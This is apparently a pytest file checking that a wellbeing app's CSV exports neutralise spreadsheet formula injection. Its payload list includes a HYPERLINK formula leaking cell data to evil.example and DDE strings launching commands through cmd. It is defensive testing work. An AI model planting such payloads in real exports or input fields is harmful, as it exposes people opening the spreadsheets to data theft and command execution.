"""Formula injection: text anyone typed (a person's name, a cohort's name) that begins
like a spreadsheet formula reaches HR's Excel as text, in every CSV the app offers. The
CSV routes are found from the URL map, so a new export is tried as soon as it exists."""
import csv
import io

import pytest

from wellbeing.auth.models import ADMIN, PARTICIPANT
from wellbeing.core.csv_export import FORMULA_STARTS

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "|calc", "%0A=1"]
COVERED = {"cohorts.roster_export", "cohorts.csv_template", "outcomes.cohort_csv",
           "outcomes.organisation_csv"}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


def test_every_csv_route_is_tried_here(app):
    csv_routes = {rule.endpoint for rule in app.url_map.iter_rules()
                  if rule.rule.endswith(".csv")}
    assert csv_routes == COVERED


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_csv_cell_starts_like_a_formula(client, login, make_user, make_cohort, enroll,
                                           org, payload):
    cohort = make_cohort(org=org, name=payload + " cohort")
    for n in range(6):
        enroll(make_user(PARTICIPANT, org=org, name=f"{payload} {n}"), cohort)
    login(client, make_user(ADMIN, org=org))
    exports = {
        "roster": f"/cohorts/{cohort.id}/roster.csv",
        "template": f"/cohorts/{cohort.id}/enroll/template.csv",
        "cohort outcomes": f"/outcomes/cohorts/{cohort.id}/outcomes.csv",
        "organisation outcomes": "/outcomes/organisation/outcomes.csv?all=1",
    }
    seen_payload = False
    for name, url in exports.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        assert response.mimetype == "text/csv"
        for cell in _cells(response.get_data(as_text=True)):
            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), (name, cell)
            seen_payload |= cell.startswith("'" + payload)
    assert seen_payload  # the hostile text is there, as text: neutralised, not dropped


def test_numbers_stay_numbers_and_plain_text_is_untouched(client, login, make_user,
                                                         make_cohort, enroll, org):
    cohort = make_cohort(org=org, name="Spring group")
    enroll(make_user(PARTICIPANT, org=org, name="Ana-Maria O'Neill"), cohort)
    login(client, make_user(ADMIN, org=org))
    cells = _cells(client.get(f"/cohorts/{cohort.id}/roster.csv").get_data(as_text=True))
    assert "Ana-Maria O'Neill" in cells
